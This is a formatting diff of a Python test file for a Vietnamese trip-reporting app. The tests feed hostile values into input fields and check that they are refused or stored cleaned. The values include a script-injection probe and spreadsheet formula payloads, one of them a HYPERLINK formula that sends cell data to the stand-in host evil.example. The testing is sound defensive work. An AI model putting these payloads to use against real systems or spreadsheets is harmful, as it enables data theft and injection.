@@ -32,17 +32,33 @@ MEGABYTE = "đ" * (1 << 20)  # 2 MB of UTF-8, a million characters
 FORBIDDEN = re.compile(r"[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\x00-\x08\x0b-\x1f\x7f]")
 
 TEXTS = [
-    "", "   ", MEGABYTE, None, 42,
-    "<script>alert(1)</script>", '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
-    "+1+1", "@SUM(A1)", "-2+3",
+    "",
+    "   ",
+    MEGABYTE,
+    None,
+    42,
+    "<script>alert(1)</script>",
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
+    "+1+1",
+    "@SUM(A1)",
+    "-2+3",
     unicodedata.normalize("NFD", "Huyện Đoàn Mèo Vạc, Hà Giang"),  # NFD Vietnamese
     "Mèo\u200bVạc\u200c\u200d\ufeff",  # zero-width characters
     "\u202eVạc Mèo\u202c and \u2067isolate\u2069",  # right-to-left override, isolates
     "Mèo\x00Vạc\x07\x1b[31m",  # NUL, bell, an ANSI escape
     "dòng một\r\ndòng hai\u2028dòng ba",
 ]
-DATES = ["2018-06-01", "01/06/2018", "", 20180601, 1.5, None,
-         dt.datetime(2018, 6, 1, 8, 30), dt.date(1, 1, 1), dt.date(9999, 12, 31)]
+DATES = [
+    "2018-06-01",
+    "01/06/2018",
+    "",
+    20180601,
+    1.5,
+    None,
+    dt.datetime(2018, 6, 1, 8, 30),
+    dt.date(1, 1, 1),
+    dt.date(9999, 12, 31),
+]
 FUNDING = [-1, 1.5, float("nan"), float("inf"), 10**13, 2**31, "1000000", "", None, True]
 CONTENT_TYPES = [None, (), "inspection", ("<script>",), ("inspection", "inspection"), (None,), 42]
 
@@ -69,27 +85,41 @@ TRIED = sum(len(values) for _, values in CASES.values())
 
 def _valid(number: int) -> TripInput:
     start = dt.date(2018, 1, 1) + dt.timedelta(days=number % 100 * 3)
-    return TripInput(start_date=start, end_date=start, province="Hà Giang",
-                     host_unit="Huyện Đoàn Mèo Vạc", content_types=("inspection",))
+    return TripInput(
+        start_date=start,
+        end_date=start,
+        province="Hà Giang",
+        host_unit="Huyện Đoàn Mèo Vạc",
+        content_types=("inspection",),
+    )
 
 
 def _counts(session) -> tuple:
-    return tuple(session.scalar(select(func.count()).select_from(model))
-                 for model in (Trip, Place, Submission, AuditEntry)) + (
-        session.scalar(select(DataVersion.version)),)
+    return tuple(
+        session.scalar(select(func.count()).select_from(model))
+        for model in (Trip, Place, Submission, AuditEntry)
+    ) + (session.scalar(select(DataVersion.version)),)
 
 
 def _stored_texts(session, trip_id: int) -> list[str]:
     trip = session.get(Trip, trip_id)
-    return [trip.place.province, trip.place.district, trip.place.commune, trip.place.host_unit,
-            trip.travel_order_no or "", trip.co_travellers, trip.purpose, *trip.tags,
-            *(q.text for q in trip.questions)]
+    return [
+        trip.place.province,
+        trip.place.district,
+        trip.place.commune,
+        trip.place.host_unit,
+        trip.travel_order_no or "",
+        trip.co_travellers,
+        trip.purpose,
+        *trip.tags,
+        *(q.text for q in trip.questions),
+    ]
 
 
 @pytest.mark.parametrize("field", CASES)
 def test_bad_value_is_refused_naming_its_field_or_stored_clean(db_url, field, figures):
     label, values = CASES[field]
-    (actor, cadre_id), = build_office(db_url, 1)
+    ((actor, cadre_id),) = build_office(db_url, 1)
     refused = stored = 0
     for number, value in enumerate(values):
         # a different day each time, so no case is refused for overlapping an earlier one
@@ -114,15 +144,17 @@ def test_bad_value_is_refused_naming_its_field_or_stored_clean(db_url, field, fi
                 assert text == unicodedata.normalize("NFC", text), f"{field}={value!r:.60} stored as NFD"
                 assert not FORBIDDEN.search(text), f"{field}={value!r:.60} stored as {text!r:.60}"
     assert refused + stored == len(values)
-    figures(f"bad input, {field}: {len(values)} values tried, {refused} refused naming the "
-            f"field, {stored} stored cleaned")
+    figures(
+        f"bad input, {field}: {len(values)} values tried, {refused} refused naming the "
+        f"field, {stored} stored cleaned"
+    )
 
 
 # --- Static checks of what the pages render and export ---------------------------------------
 
+
 def _ui_files() -> list[Path]:
-    return [ROOT / "app.py", *sorted((ROOT / "app_pages").glob("*.py")),
-            *sorted((ROOT / "ui").glob("*.py"))]
+    return [ROOT / "app.py", *sorted((ROOT / "app_pages").glob("*.py")), *sorted((ROOT / "ui").glob("*.py"))]
 
 
 def _constant_text(node: ast.expr) -> bool:
@@ -138,8 +170,11 @@ def test_no_page_renders_anything_but_constant_text_as_html():
             if not isinstance(node, ast.Call):
                 continue
             name = ast.unparse(node.func)
-            html_flag = any(k.arg == "unsafe_allow_html" and not (
-                isinstance(k.value, ast.Constant) and k.value.value is False) for k in node.keywords)
+            html_flag = any(
+                k.arg == "unsafe_allow_html"
+                and not (isinstance(k.value, ast.Constant) and k.value.value is False)
+                for k in node.keywords
+            )
             if html_flag or name.endswith(("st.html", "components.html", "components.v1.html")):
                 if not all(_constant_text(a) for a in node.args):
                     offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {name}")
@@ -149,9 +184,16 @@ def test_no_page_renders_anything_but_constant_text_as_html():
 def test_only_core_spreadsheet_writes_spreadsheets():
     """Every CSV and Excel file is made by core/exports/spreadsheet.py, which neutralises formula
     cells; nothing else writes one."""
-    writers = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|csv\.writer\(|csv\.DictWriter\("
-                         r"|openpyxl\.Workbook\(|\bWorkbook\(\)")
+    writers = re.compile(
+        r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|csv\.writer\(|csv\.DictWriter\("
+        r"|openpyxl\.Workbook\(|\bWorkbook\(\)"
+    )
     files = [*_ui_files(), *sorted((ROOT / "core").rglob("*.py"))]
-    offenders = [f"{p.relative_to(ROOT)}:{n}" for p in files if p.name != "spreadsheet.py"
-                 for n, line in enumerate(p.read_text().splitlines(), 1) if writers.search(line)]
+    offenders = [
+        f"{p.relative_to(ROOT)}:{n}"
+        for p in files
+        if p.name != "spreadsheet.py"
+        for n, line in enumerate(p.read_text().splitlines(), 1)
+        if writers.search(line)
+    ]
     assert offenders == []
